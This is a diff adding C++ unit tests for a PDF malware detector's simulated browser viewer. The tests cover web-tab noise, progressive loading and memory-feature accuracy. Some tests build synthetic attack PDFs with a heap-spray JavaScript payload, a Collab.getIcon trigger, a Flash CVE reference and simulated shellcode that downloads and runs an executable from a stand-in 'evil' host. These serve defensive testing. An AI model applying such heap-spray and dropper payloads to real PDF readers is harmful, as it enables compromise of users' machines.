@@ -1,0 +1,187 @@
+// Tests for the in-browser viewer (§VI future work, built out):
+// progressive-rendering semantics, browser background noise vs the
+// detector, multi-tab attribution, and end-to-end detection of a
+// malicious PDF opened inside the browser.
+#include <gtest/gtest.h>
+
+#include "core/detector.hpp"
+#include "core/pipeline.hpp"
+#include "corpus/builders.hpp"
+#include "corpus/generator.hpp"
+#include "reader/browser_sim.hpp"
+#include "reader/shellcode.hpp"
+#include "sys/kernel.hpp"
+
+namespace co = pdfshield::core;
+namespace cp = pdfshield::corpus;
+namespace rd = pdfshield::reader;
+namespace sy = pdfshield::sys;
+namespace sp = pdfshield::support;
+
+namespace {
+
+sp::Bytes dropper_pdf(sp::Rng& rng, const std::string& tag) {
+  rd::ShellcodeProgram prog;
+  prog.ops.push_back({"DROP", {"http://evil/" + tag + ".exe", "c:/" + tag + ".exe"}});
+  prog.ops.push_back({"EXEC", {"c:/" + tag + ".exe"}});
+  cp::DocumentBuilder builder(rng);
+  builder.add_blank_page();
+  builder.set_open_action_js(
+      "var unit = unescape('%u9090%u9090') + '" +
+      rd::encode_shellcode(prog) + "';"
+      "var spray = unit; while (spray.length < 2097152) spray += spray;"
+      "var keep = spray; Collab.getIcon(keep.substring(0, 1500));");
+  return builder.build();
+}
+
+struct BrowserHarness {
+  sy::Kernel kernel;
+  sp::Rng rng{7};
+  std::unique_ptr<co::RuntimeDetector> detector;
+  std::unique_ptr<co::FrontEnd> frontend;
+  std::unique_ptr<rd::BrowserSim> browser;
+
+  BrowserHarness() {
+    co::DetectorConfig cfg;
+    // §VI: "new runtime features for browsers" — here, the whitelist
+    // covers the browser's own sandboxed helper processes.
+    cfg.process_whitelist.push_back("browser-helper.exe");
+    detector = std::make_unique<co::RuntimeDetector>(kernel, rng, cfg);
+    frontend = std::make_unique<co::FrontEnd>(rng, detector->detector_id());
+    browser = std::make_unique<rd::BrowserSim>(kernel);
+    detector->attach(browser->viewer());
+  }
+
+  co::InstrumentationKey instrument_and_register(const sp::Bytes& file,
+                                                 const std::string& name,
+                                                 sp::Bytes* out) {
+    co::FrontEndResult fe = frontend->process(file);
+    EXPECT_TRUE(fe.ok);
+    detector->register_document(fe.record.key, name, fe.features);
+    *out = fe.output;
+    return fe.record.key;
+  }
+};
+
+}  // namespace
+
+TEST(Browser, WebPagesMakeNoiseWithoutAlerts) {
+  BrowserHarness h;
+  for (int i = 0; i < 9; ++i) {
+    h.browser->open_web_page("https://site-" + std::to_string(i) + ".example");
+  }
+  EXPECT_EQ(h.browser->tab_count(), 9u);
+  EXPECT_TRUE(h.detector->alerts().empty());
+  // Helpers spawned and network chatter happened...
+  EXPECT_GT(h.kernel.net().log().size(), 20u);
+  bool helper_running = false;
+  for (const auto& [pid, proc] : h.kernel.processes()) {
+    if (proc->image() == "browser-helper.exe" && !proc->terminated()) {
+      helper_running = true;
+    }
+  }
+  EXPECT_TRUE(helper_running) << "whitelisted helpers must not be blocked";
+}
+
+TEST(Browser, MaliciousPdfTabDetectedAmidBrowserNoise) {
+  BrowserHarness h;
+  h.browser->open_web_page("https://news.example");
+  h.browser->open_web_page("https://mail.example");
+
+  sp::Bytes instrumented;
+  const auto key = h.instrument_and_register(dropper_pdf(h.rng, "tabbed"),
+                                             "tabbed.pdf", &instrumented);
+  h.browser->open_pdf(instrumented, "tabbed.pdf");
+  h.browser->open_web_page("https://blog.example");
+
+  const co::Verdict v = h.detector->verdict(key);
+  EXPECT_TRUE(v.malicious);
+  EXPECT_TRUE(h.kernel.fs().exists("quarantine://c:/tabbed.exe"));
+  // Exactly one alert: tabs full of web noise were not blamed.
+  EXPECT_EQ(h.detector->alerts().size(), 1u);
+}
+
+TEST(Browser, ProgressiveOpenRunsEachScriptOnce) {
+  BrowserHarness h;
+  sp::Rng rng(9);
+  cp::DocumentBuilder builder(rng);
+  builder.add_pages(4, 800);
+  builder.set_open_action_js("var opened = 1;");
+  const sp::Bytes file = builder.build();
+
+  auto r = h.browser->open_pdf_streaming(file, "progressive.pdf", 5);
+  EXPECT_TRUE(r.parsed);
+  EXPECT_TRUE(r.js_ran);
+  // The script's object completes in some chunk and runs exactly once,
+  // even though later chunks re-present it.
+  EXPECT_EQ(r.scripts_executed, 1u);
+}
+
+TEST(Browser, ProgressiveOpenStillDetectsInstrumentedAttack) {
+  BrowserHarness h;
+  sp::Bytes instrumented;
+  const auto key = h.instrument_and_register(dropper_pdf(h.rng, "stream"),
+                                             "stream.pdf", &instrumented);
+  auto r = h.browser->open_pdf_streaming(instrumented, "stream.pdf", 7);
+  EXPECT_TRUE(r.js_ran);
+  EXPECT_TRUE(h.detector->verdict(key).malicious);
+  EXPECT_TRUE(h.kernel.fs().exists("quarantine://c:/stream.exe"));
+}
+
+TEST(Browser, ProgressiveRenderExploitWaitsForFinalChunk) {
+  // A render-context exploit (Flash) cannot fire from a half-downloaded
+  // payload; the viewer renders embedded content only on the final chunk.
+  BrowserHarness h;
+  sp::Rng rng(10);
+  rd::ShellcodeProgram prog;
+  prog.ops.push_back({"DROP", {"http://evil/fl.exe", "c:/fl.exe"}});
+  cp::DocumentBuilder builder(rng);
+  builder.add_blank_page();
+  builder.set_open_action_js(
+      "var unit = unescape('%u9090%u9090') + '" +
+      rd::encode_shellcode(prog) + "';"
+      "var spray = unit; while (spray.length < 2097152) spray += spray;"
+      "var keep = spray;");
+  builder.add_render_exploit("CVE-2010-3654", "Flash");
+  const sp::Bytes file = builder.build();
+
+  auto r = h.browser->open_pdf_streaming(file, "flash-stream.pdf", 4);
+  // Fired exactly once (on the final chunk), not once per chunk.
+  EXPECT_EQ(r.fired_cves.size(), 1u);
+}
+
+TEST(Browser, BenignPdfInBrowserStaysClean) {
+  BrowserHarness h;
+  cp::CorpusGenerator gen;
+  for (const auto& s : gen.generate_benign_with_js(6)) {
+    sp::Bytes instrumented;
+    const auto key = h.instrument_and_register(s.data, s.name, &instrumented);
+    h.browser->open_pdf_streaming(instrumented, s.name, 3);
+    EXPECT_FALSE(h.detector->verdict(key).malicious) << s.name;
+  }
+  EXPECT_TRUE(h.detector->alerts().empty());
+}
+
+TEST(Browser, SharedProcessMemoryDoesNotConfuseContextAwareF8) {
+  // Browser baseline (~180 MB) + web tabs exceed the 100 MB threshold in
+  // absolute terms long before any PDF opens; per-context deltas keep the
+  // F8 feature quiet for benign documents.
+  BrowserHarness h;
+  for (int i = 0; i < 4; ++i) {
+    h.browser->open_web_page("https://heavy-" + std::to_string(i) + ".example");
+  }
+  ASSERT_GT(h.browser->process().memory_bytes(), 200ull << 20);
+  sp::Rng rng(11);
+  cp::DocumentBuilder builder(rng);
+  builder.add_pages(2, 400);
+  builder.set_open_action_js("var modest = 'x'; while (modest.length < 2048)"
+                             " modest += modest;");
+  sp::Bytes instrumented;
+  const auto key = h.instrument_and_register(builder.build(), "modest.pdf",
+                                             &instrumented);
+  h.browser->open_pdf(instrumented, "modest.pdf");
+  const co::DocumentState* st = h.detector->state(key);
+  ASSERT_NE(st, nullptr);
+  EXPECT_FALSE(st->runtime_features.count(co::Feature::kF8_MemoryConsumption));
+  EXPECT_FALSE(h.detector->verdict(key).malicious);
+}
